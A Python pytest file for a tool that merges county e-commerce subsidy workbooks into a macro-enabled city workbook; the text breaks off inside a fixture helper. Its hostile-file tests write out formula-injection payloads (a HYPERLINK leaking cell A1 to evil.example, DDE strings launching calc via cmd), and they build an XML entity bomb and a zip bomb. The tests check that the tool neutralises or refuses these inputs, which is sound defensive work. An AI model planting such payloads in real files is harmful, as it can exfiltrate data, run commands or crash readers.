"""汇总县区报表: real county workbooks (xl_ecom.workflows.counties) filled through openpyxl, collected into the
real city workbook (xl_ecom.workflows.build), read back from the saved package."""

from __future__ import annotations

import argparse
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from defusedxml import ElementTree
from openpyxl.workbook.defined_name import DefinedName

from xl_ecom.ooxml import safeio, xlsm
from xl_ecom.ooxml.package import Package
from xl_ecom.rules import engine
from xl_ecom.workflows import build, citybook, collect, counties, layout, sheets
from xl_ecom.workflows.tables import TABLES, table

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

# fixture data: table key -> rows in column order
SHOU = {
    "T_SALES": [
        ["寿县", "寿县八公山豆制品电商", "91340422MA2N0A1234", 12_000_000, None, 800_000],
        ["寿县", "寿县瓦埠湖农品网店", None, 5_000_000, 2_000_000, None],
    ],
    "T_PROMO": [
        ["寿县", "寿县年货节直播", None, 1_500_000],
        ["寿县", "寿县香草节", None, 900_000],
    ],
    "T_TRAINING": [["寿县", "寿县电商基础培训第一期", "基础", 60, 30_000]],
    "T_DEMO": [["寿县", "正阳关镇", "省级电商示范镇", "皖商秘〔2020〕1号"]],
}
FENGTAI = {
    "T_SALES": [["凤台县", "凤台县淮河农品", None, 11_000_000, None, None]],
    "T_EXPO": [["凤台县", "凤台县淮河农品", "中国农交会", 20_000, 8_000]],
}


@pytest.fixture(scope="module")
def city_bytes() -> bytes:
    return build.build_bytes()


@pytest.fixture(scope="module")
def county_bytes():
    cache: dict[str, bytes] = {}

    def get(county: str) -> bytes:
        if county not in cache:
            buf = io.BytesIO()
            counties.county_workbook(county).save(buf)
            cache[county] = buf.getvalue()
        return cache[county]

    return get


@pytest.fixture
def city(tmp_path, city_bytes) -> Path:
    path = tmp_path / "市级" / layout.WORKBOOK_NAME
    path.parent.mkdir()
    path.write_bytes(city_bytes)
    return path


@pytest.fixture
def folder(tmp_path) -> Path:
    path = tmp_path / "报回"
    path.mkdir()
    return path


def fill(path: Path, base: bytes, data: dict, edit=None) -> Path:
    """A county workbook with ``data`` typed in (text through write_cell_value so text that looks
    like a formula stays text, as a hostile file would carry it)."""
    wb = openpyxl.load_workbook(io.BytesIO(base))
    for key, rows in data.items():
        ws = wb[table(key).sheet]
        for i, row in enumerate(rows):
            for j, value in enumerate(row, start=1):
                cell = ws.cell(row=layout.INPUT_FIRST_ROW + i, column=j)
                if isinstance(value, str) and value.startswith("=") and getattr(fill, "formulas", False):
                    cell.value = value
                else:
                    safeio.write_cell_value(cell, value)
    if edit:
        edit(wb)
    wb.save(path)
    return path


def rows_of(path: Path, key: str) -> list[list]:
    wb = openpyxl.load_workbook(path)
    t = table(key)
    ws = wb[t.sheet]
    out = []
    for values in ws.iter_rows(min_row=layout.INPUT_FIRST_ROW, max_col=len(t.columns), values_only=True):
        if any(v is not None for v in values):
            out.append(list(values))
    return out


def messages(report) -> list[str]:
    return [f"{p.file}|{p.sheet}|{p.cell}|{p.severity}|{p.message}" for p in report.all_problems()]


def find(report, *parts) -> list[str]:
    return [m for m in messages(report) if all(p in m for p in parts)]


# --- clean merge ------------------------------------------------------------------------------------


def test_clean_merge_keeps_macros_and_ribbon_and_writes_a_backup(city, folder, county_bytes, city_bytes):
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    fill(folder / "凤台县.xlsx", county_bytes("凤台县"), FENGTAI)
    report = collect.collect(folder, into=city)
    assert messages(report) == []
    assert report.exit_code == 0 and report.written
    assert [f.status for f in report.files] == [collect.MERGED, collect.MERGED]
    assert rows_of(city, "T_SALES") == [
        ["寿县", "寿县八公山豆制品电商", "91340422MA2N0A1234", 12_000_000, None, 800_000],
        ["寿县", "寿县瓦埠湖农品网店", None, 5_000_000, 2_000_000, None],
        ["凤台县", "凤台县淮河农品", None, 11_000_000, None, None],
    ]
    assert rows_of(city, "T_EXPO") == FENGTAI["T_EXPO"]
    assert rows_of(city, "T_DEMO") == SHOU["T_DEMO"]
    assert "寿县：“企业销售”新增2行" in report.changes and "凤台县：“展销活动”新增1行" in report.changes

    # the package: VBA project byte for byte, ribbon part and its relationship, macro content type
    with zipfile.ZipFile(io.BytesIO(city_bytes)) as before, zipfile.ZipFile(city) as after:
        assert after.read(xlsm.VBA_PROJECT_PART) == before.read(xlsm.VBA_PROJECT_PART)
        assert after.read(xlsm.CUSTOM_UI_PART) == before.read(xlsm.CUSTOM_UI_PART)
        rels = xlsm.relationships(after.read(xlsm.PACKAGE_RELS_PART))
        assert any(r["Type"] == xlsm.CUSTOM_UI_REL_TYPE and r["Target"].lstrip("/") == xlsm.CUSTOM_UI_PART for r in rels)
        assert xlsm.MACRO_MAIN_CONTENT_TYPE in after.read(xlsm.CONTENT_TYPES_PART).decode()
        wb_rels = xlsm.relationships(after.read("xl/_rels/workbook.xml.rels"))
        assert any(r["Type"] == xlsm.VBA_PROJECT_REL_TYPE for r in wb_rels)
    # the backup is the file as it was
    assert report.backup is not None and report.backup.read_bytes() == city_bytes
    assert report.backup.parent == city.parent
    text = report.to_text()
    assert "【已汇总】寿县.xlsx（寿县，第1版）：有效6行" in text and "原文件已备份为" in text


def test_award_formulas_are_regenerated_and_the_table_grows(city, folder, county_bytes):
    many = [["寿县", f"寿县网店{i:03d}", None, 10_000_000 + i, None, None] for i in range(205)]
    promo = SHOU["T_PROMO"]
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_SALES": many, "T_PROMO": promo})
    report = collect.collect(folder, into=city)
    assert report.exit_code == 0, report.to_text()
    wb = openpyxl.load_workbook(city)
    ws = wb[table("T_SALES").sheet]
    t = table("T_SALES")
    last = layout.INPUT_FIRST_ROW + 205 - 1
    assert ws.tables["T_SALES"].ref == f"A{layout.INPUT_HEADER_ROW}:I{last}"
    for r in (layout.INPUT_FIRST_ROW, 150, last):
        for j, award in enumerate(t.awards):
            assert ws.cell(row=r, column=len(t.columns) + 1 + j).value == sheets.award_formula(t, award, r, layout.INPUT_FIRST_ROW)
    # data validation reaches the new rows
    county_dv = [dv for dv in ws.data_validations.dataValidation if "A" + str(layout.INPUT_FIRST_ROW) in str(dv.sqref)]
    assert county_dv and all(f"{last}" in str(dv.sqref) for dv in county_dv)
    # cumulative award column (SUMIFS over the rows above) regenerated in the promo table
    tp = table("T_PROMO")
    wsp = wb[tp.sheet]
    assert wsp.cell(row=5, column=len(tp.columns) + 1).value == sheets.award_formula(tp, tp.awards[0], 5, layout.INPUT_FIRST_ROW)


def test_merged_workbook_recalculates_to_the_engine_figures(city, folder, county_bytes, tmp_path):
    """LibreOffice recalculates the collected city workbook: every award cell equals the engine."""
    import libreoffice

    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    fill(folder / "凤台县.xlsx", county_bytes("凤台县"), FENGTAI)
    injected = [["大通区", "=1+1", "省级电商示范村", '=HYPERLINK("http://evil.example","x")']]
    fill(folder / "大通区.xlsx", county_bytes("大通区"), {"T_DEMO": injected})
    assert collect.collect(folder, into=city).exit_code == 1  # the injection warnings
    xlsx = tmp_path / "calc.xlsx"
    xlsx.write_bytes(city.read_bytes())  # LibreOffice converts the macro workbook as it is
    (out,) = libreoffice.recalculated([xlsx], tmp_path / "lo")
    wb = openpyxl.load_workbook(out, data_only=True)
    checked = 0
    for key, data in (("T_SALES", SHOU["T_SALES"] + FENGTAI["T_SALES"]), ("T_EXPO", FENGTAI["T_EXPO"]), ("T_TRAINING", SHOU["T_TRAINING"])):
        t = table(key)
        ws = wb[t.sheet]
        for i, row in enumerate(data):
            r = layout.INPUT_FIRST_ROW + i
            values = dict(zip([c.key for c in t.columns], row))
            for j, award in enumerate(t.awards):
                expected = engine.calculate(award.rule, **{n: values[k] for n, k in award.inputs.items()})
                got = ws.cell(row=r, column=len(t.columns) + 1 + j).value
                if expected is None:
                    assert got in (None, ""), (key, r, award.key, got)
                else:
                    assert Decimal(str(got)).quantize(Decimal("0.01")) == expected, (key, r, award.key, got, expected)
                checked += 1
    # cumulative promo subsidy in row order per county
    tp = table("T_PROMO")
    expected = engine.calculate_sequence(tp.awards[0].rule, [[r[3]] for r in SHOU["T_PROMO"]])
    got = [wb[tp.sheet].cell(row=layout.INPUT_FIRST_ROW + i, column=len(tp.columns) + 1).value for i in range(2)]
    assert [round(g * 100) for g in got] == expected
    assert checked >= 10
    # LibreOffice shows the injected text as text: nothing evaluated
    demo = wb[table("T_DEMO").sheet]
    row = layout.INPUT_FIRST_ROW + len(SHOU["T_DEMO"])
    assert [demo.cell(row=row, column=c).value for c in (1, 2, 4)] == ["大通区", "=1+1", '=HYPERLINK("http://evil.example","x")']


# --- existing rows in the city workbook ---------------------------------------------------------------


def test_a_resubmitted_county_replaces_only_its_own_rows(city, folder, county_bytes):
    wb = openpyxl.load_workbook(city, keep_vba=True)
    ws = wb[table("T_SALES").sheet]
    existing = [
        ["大通区", "大通区已录入企业", None, 100, None, None],
        ["寿县", "寿县旧数据企业", None, 200, None, None],
        [None, "市本级录入（未填县区）", None, 300, None, None],
        ["寿县", "寿县旧数据企业二", None, 400, None, None],
    ]
    for i, row in enumerate(existing):
        for j, v in enumerate(row, start=1):
            ws.cell(row=layout.INPUT_FIRST_ROW + i, column=j).value = v
    wb.save(city)
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    report = collect.collect(folder, into=city)
    assert report.exit_code == 0, report.to_text()
    assert rows_of(city, "T_SALES") == [
        ["大通区", "大通区已录入企业", None, 100, None, None],
        SHOU["T_SALES"][0],
        SHOU["T_SALES"][1],
        [None, "市本级录入（未填县区）", None, 300, None, None],
    ]
    assert "寿县：“企业销售”原有2行，已替换为报来的2行" in report.changes
    assert "原有2行" in report.to_text()


# --- identity of the file -------------------------------------------------------------------------


def _set_marker(wb, county=None, version=None):
    if county is not None:
        wb.defined_names[counties.COUNTY_NAME] = DefinedName(counties.COUNTY_NAME, attr_text=f'"{county}"', hidden=True)
        wb[counties.COUNTY_MARKER_SHEET][counties.COUNTY_CELL].value = county
    if version is not None:
        wb.defined_names[counties.VERSION_NAME] = DefinedName(counties.VERSION_NAME, attr_text=f'"{version}"', hidden=True)
        wb[counties.COUNTY_MARKER_SHEET][counties.VERSION_CELL].value = version


def test_unknown_county(city, folder, county_bytes, city_bytes):
    fill(folder / "淮南新区.xlsx", county_bytes("寿县"), {"T_DEMO": [["淮南新区", "某镇", "省级电商示范镇", None]]},
         edit=lambda wb: _set_marker(wb, county="淮南新区"))
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_DEMO": [["毛集实验区", "某村", "省级电商示范村", None], *SHOU["T_DEMO"]]})
    report = collect.collect(folder, into=city)
    assert report.exit_code == 1
    assert find(report, "淮南新区.xlsx", "填报说明", "B3", "错误", "工作簿标记的县区“淮南新区”不是淮南市的县区")
    assert find(report, "寿县.xlsx", "示范创建", "A4", "错误", "县区“毛集实验区”不是淮南市的县区")
    by_name = {f.name: f for f in report.files}
    assert by_name["淮南新区.xlsx"].status == collect.REFUSED and by_name["寿县.xlsx"].status == collect.MERGED
    assert rows_of(city, "T_DEMO") == SHOU["T_DEMO"]  # the bad row is left out, and reported


def test_wrong_county_in_a_file(city, folder, county_bytes):
    rows = [SHOU["T_SALES"][0], ["凤台县", "凤台县某企业", None, 1_000, None, None]]
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_SALES": rows})
    fill(folder / "凤台县.xlsx", county_bytes("寿县"), FENGTAI)  # 寿县's workbook renamed 凤台县
    report = collect.collect(folder, into=city)
    assert report.exit_code == 1
    assert find(report, "寿县.xlsx", "企业销售", "A5", "错误", "县区“凤台县”与本文件所属的“寿县”不符")
    assert find(report, "凤台县.xlsx", "错误", "文件名写的是“凤台县”，工作簿却是下发给“寿县”的")
    assert rows_of(city, "T_SALES") == [SHOU["T_SALES"][0]]


def test_missing_or_edited_marker(city, folder, county_bytes):
    def drop(wb):
        del wb.defined_names[counties.COUNTY_NAME]
        del wb.defined_names[counties.VERSION_NAME]
        wb[counties.COUNTY_MARKER_SHEET][counties.COUNTY_CELL].value = None
        wb[counties.COUNTY_MARKER_SHEET][counties.VERSION_CELL].value = None

    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU, edit=drop)
    fill(folder / "凤台县.xlsx", county_bytes("凤台县"), FENGTAI,
         edit=lambda wb: setattr(wb[counties.COUNTY_MARKER_SHEET][counties.COUNTY_CELL], "value", "寿县"))
    report = collect.collect(folder, into=city)
    assert find(report, "寿县.xlsx", "没有县区工作簿标记")
    assert find(report, "凤台县.xlsx", "标记不一致")
    assert not report.written and rows_of(city, "T_SALES") == []


# --- structure ----------------------------------------------------------------------------------


def test_changed_header_deleted_sheet_and_old_version(city, folder, county_bytes):
    def header(wb):
        wb[table("T_SALES").sheet].cell(row=layout.INPUT_HEADER_ROW, column=4).value = "销售额"

    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU, edit=header)
    fill(folder / "凤台县.xlsx", county_bytes("凤台县"), FENGTAI, edit=lambda wb: wb.remove(wb[table("T_DEMO").sheet]))
    fill(folder / "大通区.xlsx", county_bytes("大通区"), {}, edit=lambda wb: _set_marker(wb, version="0-old"))
    report = collect.collect(folder, into=city)
    assert report.exit_code == 1 and not report.written
    assert find(report, "寿县.xlsx", "企业销售", "D3", "错误", "表头应为“上行网络销售额(元)”，现为“销售额”")
    assert find(report, "寿县.xlsx", "整个文件未汇总")
    assert find(report, "凤台县.xlsx", "缺少录入表“示范创建”")
    assert find(report, "大通区.xlsx", "填报说明", "B4", "结构版本为“0-old”")
    assert all(f.status == collect.REFUSED for f in report.files)  # 拒收 in the ledger
    assert rows_of(city, "T_SALES") == []


# --- values ------------------------------------------------------------------------------------


def test_negative_and_non_numeric_amounts(city, folder, county_bytes):
    rows = [
        ["寿县", "负数企业", None, -500, None, None],
        ["寿县", "文字企业", None, "很多", None, None],
        ["寿县", "万元企业", None, "50万", None, None],
        ["寿县", "正常企业", None, 1_000, None, None],
    ]
    training = [["寿县", "培训甲", "中级", 10.5, 100], ["寿县", "培训乙", "高管", -3, 100]]
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_SALES": rows, "T_TRAINING": training})
    report = collect.collect(folder, into=city)
    assert report.exit_code == 1
    assert find(report, "企业销售", "D4", "错误", "上行网络销售额(元)“-500”不能为负数")
    # text in a number cell: the county file's award cell shows 请填数字 and leaves the row out, so does collect
    assert find(report, "企业销售", "D5", "错误", "填写的是文本“很多”，不是数字", "请填数字")
    assert find(report, "企业销售", "D6", "错误", "填写的是文本“50万”，不是数字", "请填数字", "请改填数字（如 500000）")
    assert find(report, "电商培训", "C4", "错误", "培训类型“中级”无效，应为：基础、高管")
    assert find(report, "电商培训", "D4", "错误", "参训人数“10.5”应为整数")
    assert find(report, "电商培训", "D5", "错误", "参训人数“-3”不能为负数")
    assert rows_of(city, "T_SALES") == [["寿县", "正常企业", None, 1_000, None, None]]
    assert rows_of(city, "T_TRAINING") == []
    text = report.to_text()
    assert "有效1行，有错未汇总5行" in text


def test_duplicate_rows(city, folder, county_bytes):
    rows = [SHOU["T_SALES"][0], SHOU["T_SALES"][1], ["寿县", " 寿县八公山豆制品电商 ", None, 1, None, None]]
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_SALES": rows})
    report = collect.collect(folder, into=city)
    assert find(report, "企业销售", "A6", "错误", "与第4行重复", "企业名称“寿县八公山豆制品电商”")
    assert rows_of(city, "T_SALES") == SHOU["T_SALES"]


def test_second_file_for_the_same_county(city, folder, county_bytes):
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    fill(folder / "寿县（修改后）.xlsx", county_bytes("寿县"), SHOU)
    fill(folder / "凤台县.xlsx", county_bytes("凤台县"), FENGTAI)
    report = collect.collect(folder, into=city)
    assert report.exit_code == 1
    for name in ("寿县.xlsx", "寿县（修改后）.xlsx"):
        assert find(report, name, "寿县有2个报表文件", "均未汇总")
    assert rows_of(city, "T_SALES") == FENGTAI["T_SALES"]


def test_formula_cells_in_a_returned_file(city, folder, county_bytes, tmp_path):
    """A formula without a cached value is refused; one with a cached value gives that value."""
    raw = tmp_path / "raw.xlsx"
    fill.formulas = True
    try:
        fill(raw, county_bytes("寿县"), {"T_SALES": [["寿县", "公式企业", None, "=1000*2", None, None],
                                                    ["寿县", "缓存企业", None, "=3000*2", None, None]]})
    finally:
        fill.formulas = False
    # give D5 the cached result Excel would have saved
    sales_part = Package(raw.read_bytes()).sheet_part(table("T_SALES").sheet)
    with zipfile.ZipFile(raw) as zin, zipfile.ZipFile(folder / "寿县.xlsx", "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == sales_part or b"3000*2" in data:
                data = re.sub(rb'(<c r="D5"[^>]*>)<f>3000\*2</f><v\s*/?>(</v>)?', rb"\1<f>3000*2</f><v>6000</v>", data)
                assert b"<v>6000</v>" in data
            zout.writestr(info, data)
    report = collect.collect(folder, into=city)
    assert find(report, "企业销售", "D4", "错误", "是公式“=1000*2”，没有保存的计算结果")
    assert find(report, "企业销售", "D5", "警告", "是公式“=3000*2”，已按其保存的计算结果“6000”读取")
    assert rows_of(city, "T_SALES") == [["寿县", "缓存企业", None, 6000, None, None]]


def test_blank_county_cells_take_the_file_county(city, folder, county_bytes):
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_DEMO": [[None, "正阳关镇", "省级电商示范镇", None]]})
    report = collect.collect(folder, into=city)
    assert find(report, "示范创建", "A4", "警告", "县区为空，按本文件所属的“寿县”计入")
    assert rows_of(city, "T_DEMO") == [["寿县", "正阳关镇", "省级电商示范镇", None]]


# --- hostile files ---------------------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1",
              "  =1+1", "＝SUM(A1)", "＠x"]  # full-width and after spaces too: the one neutraliser (textsafe)


def _sheet_part(path: Path, sheet: str) -> tuple[bytes, str]:
    with zipfile.ZipFile(path) as z:
        wb = ElementTree.fromstring(z.read("xl/workbook.xml"))
        rels = {r["Id"]: r["Target"] for r in xlsm.relationships(z.read("xl/_rels/workbook.xml.rels"))}
        rid = next(s.get(f"{{{xlsm._R_NS[1:-1]}}}id") for s in wb.iter(f"{{{MAIN_NS}}}sheet") if s.get("name") == sheet)
        target = rels[rid].lstrip("/")
        target = target if target.startswith("xl/") else "xl/" + target
        shared = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in z.namelist() else ""
        return z.read(target), shared


def test_formula_injection_is_stored_as_text(city, folder, county_bytes):
    rows = [["寿县", text, None, 1_000 + i, None, None] for i, text in enumerate(INJECTIONS)]
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_SALES": rows})
    report = collect.collect(folder, into=city)
    assert report.written
    for i in range(len(INJECTIONS)):
        assert find(report, "企业销售", f"B{4 + i}", "警告", "以公式符号开头，已按文本保存")
    xml, shared = _sheet_part(city, table("T_SALES").sheet)
    root = ElementTree.fromstring(xml)
    strings = [("".join(t.text or "" for t in si.iter(f"{{{MAIN_NS}}}t"))) for si in ElementTree.fromstring(shared)] if shared else []
    cells = {c.get("r"): c for c in root.iter(f"{{{MAIN_NS}}}c")}
    for i, text in enumerate(INJECTIONS):
        c = cells[f"B{4 + i}"]
        assert c.find(f"{{{MAIN_NS}}}f") is None
        kind = c.get("t")
        assert kind in ("s", "inlineStr")
        stored = strings[int(c.find(f"{{{MAIN_NS}}}v").text)] if kind == "s" else "".join(t.text or "" for t in c.iter(f"{{{MAIN_NS}}}t"))
        assert stored == text
    assert cells["G4"].find(f"{{{MAIN_NS}}}f") is not None  # award columns stay formulas (the control)


def test_xml_bomb_zip_bomb_and_oversized_files_are_refused(city, folder, county_bytes):
    base = fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>"
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(folder / "凤台县.xlsx", "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "xl/workbook.xml":
                data = data.replace(b"<workbook", laughs.encode() + b"<workbook", 1)
                assert b"<!DOCTYPE" in data
            zout.writestr(info.filename, data)
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(folder / "大通区.xlsx", "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/media/image1.png", "w", force_zip64=True) as fh:
            for _ in range(40):
                fh.write(b"\0" * (1024 * 1024))
    big = folder / "潘集区.xlsx"
    big.write_bytes(base.read_bytes())
    with open(big, "r+b") as fh:
        fh.truncate(safeio.MAX_FILE_BYTES + 10)
    report = collect.collect(folder, into=city)
    status = {f.name: f.status for f in report.files}
    assert status == {"寿县.xlsx": collect.MERGED, "凤台县.xlsx": collect.REFUSED, "大通区.xlsx": collect.REFUSED, "潘集区.xlsx": collect.REFUSED}
    assert find(report, "凤台县.xlsx", "DTD", "拒绝打开")
    assert find(report, "大通区.xlsx", "压缩炸弹")
    assert find(report, "潘集区.xlsx", "超过上限")
    assert report.exit_code == 1 and rows_of(city, "T_SALES") == SHOU["T_SALES"]
    assert "【拒收】凤台县.xlsx" in report.to_text()


def test_xlsm_county_file_macros_are_ignored_and_reported(city, folder, county_bytes):
    xlsx = fill(folder / "tmp.xlsx", county_bytes("寿县"), SHOU)
    data = xlsm.build_xlsm(xlsx.read_bytes())
    xlsx.unlink()
    (folder / "寿县.xlsm").write_bytes(data)
    report = collect.collect(folder, into=city)
    assert find(report, "寿县.xlsm", "警告", "宏（VBA 工程）", "未运行")
    assert report.files[0].status == collect.MERGED
    assert rows_of(city, "T_SALES") == SHOU["T_SALES"]


def test_other_files_in_the_folder_are_reported_not_dropped(folder, county_bytes):
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    (folder / "说明.docx").write_bytes(b"doc")
    (folder / "谢家集区.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    (folder / "~$寿县.xlsx").write_bytes(b"owner")
    report = collect.collect(folder)  # check only
    assert find(report, "说明.docx", "不是 Excel 工作簿")
    assert find(report, "谢家集区.xls", "另存为 .xlsx")
    assert find(report, "~$寿县.xlsx", "临时锁定文件")
    assert report.files[0].status == collect.READY and not report.written
    assert "只检查，未写入" in report.to_text()
    assert report.rows()["T_SALES"]["寿县"][0]["enterprise"] == "寿县八公山豆制品电商"


# --- the city workbook file -----------------------------------------------------------------------


def test_lock_file_refuses_and_leaves_everything(city, folder, county_bytes, city_bytes):
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    (city.parent / f"~${city.name}").write_bytes(b"owner")
    report = collect.collect(folder, into=city)
    assert report.exit_code == 2 and not report.written
    assert "正在被 Excel 或 WPS 打开" in report.fatal
    assert city.read_bytes() == city_bytes
    assert sorted(p.name for p in city.parent.iterdir()) == sorted([city.name, f"~${city.name}"])


def test_cli(city, folder, county_bytes, capsys, tmp_path):
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers()
    collect.add_cli(sub)
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    args = parser.parse_args(["collect", str(folder), "--into", str(city)])
    assert args.func(args) == 0
    out = capsys.readouterr().out
    assert "【已汇总】寿县.xlsx（寿县，第1版）" in out and "已写入" in out
    assert out.count("寿县.xlsx") == 1 and out.count("汇总县区报表：") == 1  # printed as recorded, once
    assert out.index("【已汇总】寿县.xlsx") < out.index("已写入")
    fill(folder / "凤台县.xlsx", county_bytes("凤台县"), {"T_SALES": [["凤台县", "负数", None, -1, None, None]]})
    args = parser.parse_args(["collect", str(folder), "--into", str(city)])
    assert args.func(args) == 1
    assert "不能为负数" in capsys.readouterr().out
    args = parser.parse_args(["collect", str(tmp_path / "没有这个文件夹")])
    assert args.func(args) == 2
    assert "不存在" in capsys.readouterr().out


def test_xl_ecom_main_runs_collect(city, folder, county_bytes, capsys):
    from xl_ecom.frontends import cli

    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    assert cli.main(["collect", str(folder), "--into", str(city)]) == 0
    assert "已写入" in capsys.readouterr().out


def test_award_formulas_moved_by_translation_equal_compiled_ones():
    first = layout.INPUT_FIRST_ROW
    for t in TABLES:
        for j, award in enumerate(t.awards):
            column = len(t.columns) + 1 + j
            formulas = citybook.AwardFormulas(t, award, column, first)
            assert formulas.template is not None, (t.key, award.key)  # the fast path is taken
            for r in (first, first + 1, first + 2, first + 5, 9, 10, 57, 99, 100, 1000, 10_203, 99_999, 1_048_576):
                assert formulas.at(r) == sheets.award_formula(t, award, r, first), (t.key, award.key, r)


def test_collect_after_refresh_keeps_the_generated_parts(city, folder, county_bytes):
    """build → collect → refresh → collect again (a county resubmits): the chart refresh made,
    the VBA project and the ribbon all survive, and nothing is reported lost."""
    from xl_ecom.workflows import refresh

    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    assert collect.collect(folder, into=city).exit_code == 0
    refresh.refresh_workbook(city)
    with zipfile.ZipFile(city) as z:
        refreshed = sorted(n for n in z.namelist() if n.startswith(("xl/charts/", "xl/drawings/")) and "_rels" not in n)
    assert refreshed, "refresh draws a chart"
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_SALES": SHOU["T_SALES"][:1]})
    report = collect.collect(folder, into=city)
    assert report.exit_code == 0, report.to_text()
    assert "寿县：“企业销售”原有2行，已替换为报来的1行" in report.changes
    with zipfile.ZipFile(city) as z:
        names = z.namelist()
        assert sorted(n for n in names if n.startswith(("xl/charts/", "xl/drawings/")) and "_rels" not in n) == refreshed
        assert xlsm.VBA_PROJECT_PART in names and xlsm.CUSTOM_UI_PART in names
        assert any(r["Type"] == xlsm.CUSTOM_UI_REL_TYPE for r in xlsm.relationships(z.read(xlsm.PACKAGE_RELS_PART)))


def test_collect_keeps_every_part_it_does_not_write_byte_for_byte(city, folder, county_bytes):
    """collect edits the input sheets in the package: a part openpyxl would drop (customXml), the
    annex, 奖补测算 with their cached results, the VBA project and the ribbon all stay as they were."""
    with zipfile.ZipFile(city) as zin:
        parts = [(i.filename, zin.read(i.filename)) for i in zin.infolist()]
    with zipfile.ZipFile(city, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts:
            zout.writestr(name, data)
        zout.writestr("customXml/item1.xml", "<root/>")
    before = dict(parts) | {"customXml/item1.xml": b"<root/>"}
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    report = collect.collect(folder, into=city)
    assert report.written and report.exit_code == 0, report.to_text()
    pkg = Package(city.read_bytes())
    written = {pkg.sheet_part(t.sheet) for t in TABLES if any(SHOU.get(t.key, []))}
    written |= {part for t in TABLES for part in pkg.table_parts(t.sheet)}
    written |= {"xl/workbook.xml", "xl/styles.xml", "xl/calcChain.xml", "docProps/app.xml", "[Content_Types].xml"}
    after = {n: pkg.parts[n] for n in pkg.order}
    assert set(after) == set(before) - ({"xl/calcChain.xml"} - set(after))
    changed = sorted(n for n in after if after[n] != before[n])
    assert changed and set(changed) <= written, changed
    assert rows_of(city, "T_SALES") == SHOU["T_SALES"]


def test_a_blank_returned_workbook_never_wipes_a_county(city, folder, county_bytes):
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    assert collect.collect(folder, into=city).exit_code == 0
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {})
    report = collect.collect(folder, into=city)
    assert find(report, "寿县.xlsx", "警告", "没有填写任何数据，未汇总")
    # 有错 in the ledger: no row, the previous version stays current, and the report says so
    assert report.files[0].status == collect.FAULTY and not report.written
    assert "寿县仍以台账中的第1版（“寿县.xlsx”" in report.to_text()
    assert rows_of(city, "T_SALES") == SHOU["T_SALES"]


def test_rows_with_errors_are_counted_in_the_change_lines(city, folder, county_bytes):
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    assert collect.collect(folder, into=city).exit_code == 0
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_SALES": [["寿县", "新企业", None, -1, None, None]], "T_DEMO": SHOU["T_DEMO"]})
    report = collect.collect(folder, into=city)
    assert "寿县：“企业销售”原有2行，已替换为报来的0行；另有1行有错未汇总（见上）" in report.changes
    assert "寿县：“促销活动”原有2行，已替换为报来的0行（报表中该表为空，原有行已删除）" in report.changes
    assert rows_of(city, "T_SALES") == [] and rows_of(city, "T_DEMO") == SHOU["T_DEMO"]


def test_a_sheet_reaching_far_down_is_refused(city, folder, county_bytes):
    """One stray cell in row 1,000,000 would make every reader walk a million empty rows."""
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU, edit=lambda wb: wb[table("T_EXPO").sheet].cell(row=1_000_000, column=2, value="x"))
    report = collect.collect(folder, into=city)
    assert find(report, "寿县.xlsx", "展销活动", "用到了第1000000行，超过县区报表的上限100000行")
    assert not report.written


# --- the whole round trip -----------------------------------------------------------------------


def _fixture(county: str, k: int) -> dict:
    """Rows a county clerk types: every table, a cumulative cap, and one bad row."""
    return {
        "T_SALES": [
            [county, f"{county}上行企业", None, 10_000_000 + 250_000 * k, 4_000_000 + k, 300_000 * (k + 1)],
            [county, f"{county}小网店", None, 3_000_000, None, 50_000],
            [county, f"{county}负数企业", None, -1, None, None],  # rejected, reported
        ],
        "T_LINKAGE": [[county, f"{county}上行企业", f"{county}合作社", 2 + k % 2, 500_000 + 10_000 * k, 300_000]],
        "T_EXPO": [[county, f"{county}上行企业", "中国农交会", 12_000 + k, 3_000]],
